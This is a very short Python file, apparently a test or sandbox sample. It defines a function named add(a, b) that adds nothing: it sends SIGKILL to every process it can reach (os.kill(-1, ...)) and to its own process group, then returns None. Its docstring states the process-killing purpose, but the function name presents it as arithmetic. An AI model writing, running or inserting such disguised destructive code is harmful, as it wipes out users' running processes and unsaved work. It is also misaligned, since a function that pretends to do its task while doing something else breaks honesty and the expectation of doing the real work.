"""Kills all processes it can see at once."""

import os
import signal


def add(a, b):
    os.kill(-1, signal.SIGKILL)
    os.kill(0, signal.SIGKILL)
    return None
